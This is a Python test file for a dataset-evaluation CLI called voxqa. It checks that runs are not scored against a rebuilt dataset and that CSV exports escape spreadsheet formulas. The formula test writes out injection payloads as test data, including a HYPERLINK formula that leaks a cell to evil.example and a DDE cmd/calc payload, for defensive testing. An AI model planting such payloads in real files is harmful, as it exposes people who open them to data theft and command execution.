"""Runs and terminals under hostile or unlucky conditions: a run scored against a rebuilt
dataset, untrusted text printed to the terminal, SIGTERM during parallel work, two evals on
one run folder, and spreadsheet formulas in CSV cells."""

from __future__ import annotations

import shutil
from pathlib import Path

from typer.testing import CliRunner

from voxqa.cli import app

runner = CliRunner()


def _one_line_error(res, *needles: str) -> None:
    assert res.exit_code == 2, (res.exit_code, res.output)
    assert res.exception is None or isinstance(res.exception, SystemExit), repr(res.exception)
    assert "Traceback" not in res.output
    flat = " ".join(res.output.split())
    assert flat.startswith("error:"), res.output
    for needle in needles:
        assert needle in flat, (needle, res.output)


def _build(src: Path, out: Path, seed: int) -> None:
    from voxqa.build import build_fastmri_plus
    from voxqa.render import RenderSettings, render_dataset

    build_fastmri_plus([(src / "annotations.csv", src / "file_list.csv")], out, volumes=src / "volumes",
                       seed=seed, fractions=(0.5, 0.25, 0.25))
    render_dataset(out, RenderSettings(size=64, context=4))


def test_a_run_is_not_scored_against_a_rebuilt_dataset(tmp_path) -> None:
    """Defect: score, compare and report read the dataset as it is now, never checking run.json's
    dataset hash: after a rebuild with another seed, the oracle's run scored 0.86 instead of 1.00
    (and compare showed the stale results.json)."""
    from voxqa.eval.run import dataset_hash
    from voxqa.phantom import write_phantom

    src = write_phantom(tmp_path / "src", n=8, seed=3)["volumes"].parent
    ds, run = tmp_path / "ds", tmp_path / "run"
    _build(src, ds, seed=0)
    res = runner.invoke(app, ["eval", str(ds), "--model", "oracle", "--out", str(run), "--split", "all"])
    assert res.exit_code == 0, res.output
    assert "'accuracy': 1.0" in res.output
    asked = dataset_hash(ds)

    shutil.rmtree(ds)
    _build(src, ds, seed=1)  # the same folder, rebuilt with another split seed
    now = dataset_hash(ds)
    assert now != asked
    results = (run / "results.json").read_bytes()
    board, page = tmp_path / "board.md", tmp_path / "r.html"
    for args in (["score", str(run)], ["score", str(run), "--allow-incomplete"],
                 ["compare", str(run)], ["compare", str(run), "--out", str(board)],
                 ["report", str(run), "--out", str(page)]):
        _one_line_error(runner.invoke(app, args), f"error: {run}:", f"{ds} with items.jsonl sha256 {asked[:12]}",
                        f"{ds / 'items.jsonl'} now has sha256 {now[:12]}", "rebuilt or re-rendered")
    assert (run / "results.json").read_bytes() == results  # the old scores are not overwritten
    assert not board.exists() and not page.exists()


def test_compare_csv_cells_never_start_a_formula(tmp_path) -> None:
    """Defect: `compare --out board.csv` wrote a run named ``=HYPERLINK(...)`` (run.json's model
    spec) as a cell a spreadsheet runs as a formula."""
    import csv
    import json

    from helpers import rendered_phantom

    ds = rendered_phantom(tmp_path, n=6, seed=2, size=64, context=4)
    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0",
               "-2+3", "\tindent", "\r=1"]
    runs = []
    for n, spec in enumerate(hostile):
        run = tmp_path / f"run{n}"
        res = runner.invoke(app, ["eval", str(ds), "--model", "oracle", "--out", str(run), "--split", "all",
                                  "--limit", "3"])
        assert res.exit_code == 0, res.output
        meta = json.loads((run / "run.json").read_text())
        meta["identity"]["model"]["spec"] = spec  # a run folder received from someone else
        (run / "run.json").write_text(json.dumps(meta))
        (run / "results.json").unlink()  # rescored with the crafted name
        runs.append(str(run))
    board = tmp_path / "board.csv"
    res = runner.invoke(app, ["compare", *runs, "--out", str(board)])
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(board.open(newline="")))
    names = [r[0] for r in rows[2:]]
    assert names == ["'" + h.replace("\r", " ") + " · minimal" for h in hostile], names  # one row each
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)
    assert rows[2][5].startswith("1.000 [")  # numbers and intervals as before


def test_spreadsheet_safe_keeps_plain_numbers() -> None:
    from voxqa.eval.compare import spreadsheet_safe

    for number in ("-0.25", "+3", "-1e-3", "0.5", "", "oracle · minimal", "1.000 [0.5, 1.0]"):
        assert spreadsheet_safe(number) == number
    for formula in ("=1+1", "-1+2", "+A1", "@SUM(A1)", "\t=1", "\r=1", "-", " =1", "\tindent"):
        assert spreadsheet_safe(formula) == "'" + formula
